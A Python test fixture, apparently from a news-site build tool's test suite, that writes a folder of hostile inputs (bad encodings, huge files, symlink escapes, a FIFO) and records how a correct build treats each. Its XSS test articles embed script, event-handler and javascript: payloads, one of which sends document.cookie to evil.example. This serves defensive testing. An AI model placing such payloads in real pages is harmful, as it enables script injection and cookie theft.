"""A hostile content folder: every input issue 7 names, beside the five real seed articles.

`write_hostile_corpus(content, outside)` fills `content` (and puts the targets of the outward
symlinks in `outside`) and returns what a correct build must make of each file.
"""
from __future__ import annotations

import os
import shutil
from dataclasses import dataclass, field
from pathlib import Path

from conftest import SEEDS

XSS = "<script>alert(1)</script>"
ONERROR = '<img src=x onerror="alert(2)">'
ONLOAD = '"><svg onload=alert(3)>'
JS_URL = "javascript:alert(4)"

# A real-looking English story, distinct from the seeds, for the encoding tests.
CAFE_BODY = (
    "Café owners in the old town protested on Monday against new rules that limit terrace "
    "seating, saying the measures would cost them most of their summer trade. The council "
    "said the rules were needed to keep pavements clear for pedestrians and wheelchair users. "
    "About forty owners gathered outside the town hall, and several said they would take the "
    "matter to court if the council did not reconsider its decision before the season opens.\n")

GERMAN_BODY = (
    "Die Stadtverwaltung hat am Montag neue Regeln für die Außengastronomie beschlossen. Nach "
    "Angaben der Behörde sollen die Gehwege für Fußgänger und Rollstuhlfahrer frei bleiben. "
    "Mehrere Wirte kündigten an, gegen die Entscheidung vor Gericht zu ziehen, weil sie um ihr "
    "Sommergeschäft fürchten. Der Bürgermeister sagte, man sei zu Gesprächen bereit, doch die "
    "Sicherheit der Bürger gehe vor. Die neuen Regeln gelten ab dem ersten Juni in der ganzen "
    "Innenstadt und betreffen nach Schätzungen der Kammer rund zweihundert Betriebe.\n")


@dataclass
class Expected:
    read: dict[str, str] = field(default_factory=dict)  # path -> what the test checks it for
    skipped: dict[str, str] = field(default_factory=dict)  # path -> a word the reason must hold
    merged: dict[str, str] = field(default_factory=dict)  # path -> path of the kept file


def huge_article(n_bytes: int) -> bytes:
    """A long, ordinary English article of about n_bytes: numbered paragraphs of prose."""
    out, size, i = [b"Title: The Longest Council Meeting\nSource: Marathon Times\n\n"], 0, 0
    while size < n_bytes:
        i += 1
        p = (f"On day {i} of the meeting, councillors debated item {i % 97} of the budget for "
             f"district {i % 13}, and the chair said a vote would follow. Residents watched "
             f"from the gallery as the clerk read {i * 7 % 1000} amendments aloud.\n\n").encode()
        out.append(p)
        size += len(p)
    return b"".join(out)


def write_hostile_corpus(content: Path, outside: Path, huge_bytes: int = 20_000_000) -> Expected:
    exp = Expected()
    content.mkdir(parents=True, exist_ok=True)
    outside.mkdir(parents=True, exist_ok=True)

    for seed in sorted(SEEDS.glob("*.txt")):  # the real articles
        shutil.copy(seed, content / seed.name)
        exp.read[seed.name] = "seed"

    def put(name: str, data: bytes | str, status: str = "read", note: str = "") -> None:
        path = content / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        getattr(exp, status)[name] = note

    # empty, whitespace-only, binary
    put("empty.txt", b"", "skipped", "empty")
    put("blank.md", b"  \n\t\r\n   \n", "skipped", "empty")
    put("utf16-blank.txt", "\ufeff   \n\n".encode("utf-16"), "skipped", "empty")
    put("image.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 40,
        "skipped", "binary")
    put("control.md", bytes(range(1, 32)) * 300, "skipped", "binary")
    put("notes.pdf", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", "skipped", "not an article file")

    # encodings: decoded, not skipped
    cafe = "Title: Café owners protest “unfair” terrace rules\nSource: Le Monde Diplomatique\n\n"
    put("enc/cp1252.txt", (cafe + CAFE_BODY).encode("cp1252"), note="Café owners protest “unfair”")
    latin = "Title: Señora Núñez wins the façade award\nSource: El País Semanal\n\n"
    put("enc/latin1.txt", (latin + CAFE_BODY.replace("Café", "Bar")).encode("latin-1"),
        note="Señora Núñez wins the façade award")
    u16 = "Title: Zürich trams run late — again\nSource: Tages-Anzeiger\n\n"
    put("enc/utf16.txt", (u16 + CAFE_BODY.replace("Café", "Tram")).encode("utf-16"),
        note="Zürich trams run late — again")
    put("enc/utf16be.md", b"\xfe\xff" + ("Title: Ωmega café reopens\n\n" + CAFE_BODY.replace(
        "Café", "Kiosk")).encode("utf-16-be"), note="Ωmega café reopens")

    # size
    put("huge.txt", huge_article(huge_bytes), note="The Longest Council Meeting")
    put("long-word.txt", "Title: One Very Long Word\n\nThe agency published this on Monday. "
        + "a" * 2_000_000 + " And then it ended.\n", note="One Very Long Word")
    put("many-dots.txt", "Title: Ellipsis Storm\n\nIt began." + "." * 500_000
        + "!?" * 100_000 + " Then it stopped. " + "*_[(<" * 20_000 + "\n", note="Ellipsis Storm")
    too_large = content / "too-large.txt"
    with too_large.open("wb") as fh:  # sparse: 60 MB on paper, nothing on disk
        fh.truncate(60_000_000)
    exp.skipped["too-large.txt"] = "too large"

    # metadata only; malformed metadata and impossible dates: warned, not fatal
    put("meta-only.txt", "Title: Nothing Follows\nSource: Ghost Gazette\nDate: 2024-01-02\n\n",
        "skipped", "no article text")
    put("meta-only.md", "Title: Nothing Follows Either\nDate: 2024-01-02\n", "skipped",
        "no article text")
    put("bad-date.md", "Title: The Thirteenth Month\nDate: 2023-13-45\nSource: Calendar News\n"
        "URL: ftp://example.com/x\n\nThe calendar office said on Friday that the thirteenth "
        "month would not be added after all, ending weeks of speculation among clerks.\n",
        note="The Thirteenth Month")
    put("malformed.txt", "Title: Half a Header\nSource Daily Bugle\nDate: February 30, 2024\n\n"
        "The header above is broken, and the date is impossible. The rest of this story is "
        "ordinary text about a bridge that closed for repairs on Tuesday.\n",
        note="Half a Header")
    put("dup-keys.txt", "Title: First Title\nTitle: Second Title\nDate: 0000-00-00\n\n"
        "The mayor opened the new library on Saturday, and hundreds of readers came.\n",
        note="Second Title")

    # the same article under other names (one re-encoded): one article, not three outlets
    seed1 = sorted(SEEDS.glob("001*.txt"))[0]
    put("zz-copy/same-story.txt", seed1.read_bytes(), "merged", seed1.name)
    put("zz-copy/same-story-utf16.txt", seed1.read_text(encoding="utf-8").encode("utf-16"),
        "merged", seed1.name)
    # two files whose ids would clash: both read, ids kept apart
    put("clash.txt", "Title: Harbour Reopens\n\nThe harbour reopened on Sunday after the storm, "
        "the port authority said, and the first ferries left on time.\n", note="clash")
    put("clash.md", "Title: Airport Reopens\n\nThe airport reopened on Sunday after the storm, "
        "the aviation authority said, and the first flights left on time.\n", note="clash")

    # symlinks: out of the content folder (a file, a folder), a loop, a dangling link
    (outside / "secret.txt").write_text("Title: Secret\n\nThis file lives outside the content "
                                        "folder and must never be published.\n", encoding="utf-8")
    (outside / "folder").mkdir(exist_ok=True)
    (outside / "folder" / "also-secret.txt").write_text(
        "Title: Also Secret\n\nNor this one, which sits in a linked folder.\n", encoding="utf-8")
    os.symlink(outside / "secret.txt", content / "outside-link.txt")
    exp.skipped["outside-link.txt"] = "outside the content folder"
    os.symlink(outside / "folder", content / "outside-folder")
    exp.skipped["outside-folder"] = "outside the content folder"
    os.symlink("..", content / "enc" / "loop")
    exp.skipped["enc/loop"] = "not followed"
    os.symlink(content / "missing.txt", content / "dangling.txt")
    exp.skipped["dangling.txt"] = "cannot be opened"
    os.mkfifo(content / "pipe.txt")
    exp.skipped["pipe.txt"] = "not a regular file"

    # non-English: read, readability marked not applicable
    put("german.txt", "Title: Neue Regeln für Wirte\nSource: Süddeutsche\n\n" + GERMAN_BODY,
        note="not English")

    # markup and script in every field
    put("xss.txt", f"Title: {XSS} Breaking {ONERROR}\nSource: {ONLOAD} Times\nURL: {JS_URL}\n"
        f"Author: <b onmouseover=alert(5)>Evil</b>\n\n"
        f"The council met on Monday {XSS} and voted {ONERROR} to close the bridge. "
        f"Officials said <a href=\"{JS_URL}\" onclick=\"alert(6)\">click here</a> for details. "
        f"Residents said the decision was {ONLOAD} long overdue.\n", note="markup")
    put("xss.md", f"Title: Markdown {XSS} story\nSource: <i>Markup</i> Weekly\n"
        f"URL: https://example.com/a\"onmouseover=\"alert(7)\n\n"
        f"# Heading {ONERROR}\n\nThe [bridge]({JS_URL}) closed on **Monday** after "
        f"<span onclick=\"alert(8)\">engineers</span> found cracks, officials said.\n\n"
        f"<script>\nfetch('https://evil.example/' + document.cookie)\n</script>\n\n"
        f"Repairs will take ![pic](javascript:alert(9)) six weeks, the city said.\n",
        note="markup")
    put("xss-url.txt", "Title: Clean Headline\nSource: Link Daily\n"
        "URL: https://example.com/story?a=1&b=<2>\n\nThe story itself is ordinary text about "
        "a parade that took place on Sunday in the city centre.\n", note="markup")
    return exp


class within:
    """A hang guard (not a speed test): fails when the block runs past a generous limit,
    which only a super-linear blow-up reaches."""

    def __init__(self, seconds: int):
        self.seconds = seconds

    def __enter__(self):
        import signal

        def expired(*_):
            raise TimeoutError(f"still running after {self.seconds} s: super-linear blow-up?")
        self._old = signal.signal(signal.SIGALRM, expired)
        signal.alarm(self.seconds)

    def __exit__(self, *exc):
        import signal
        signal.alarm(0)
        signal.signal(signal.SIGALRM, self._old)
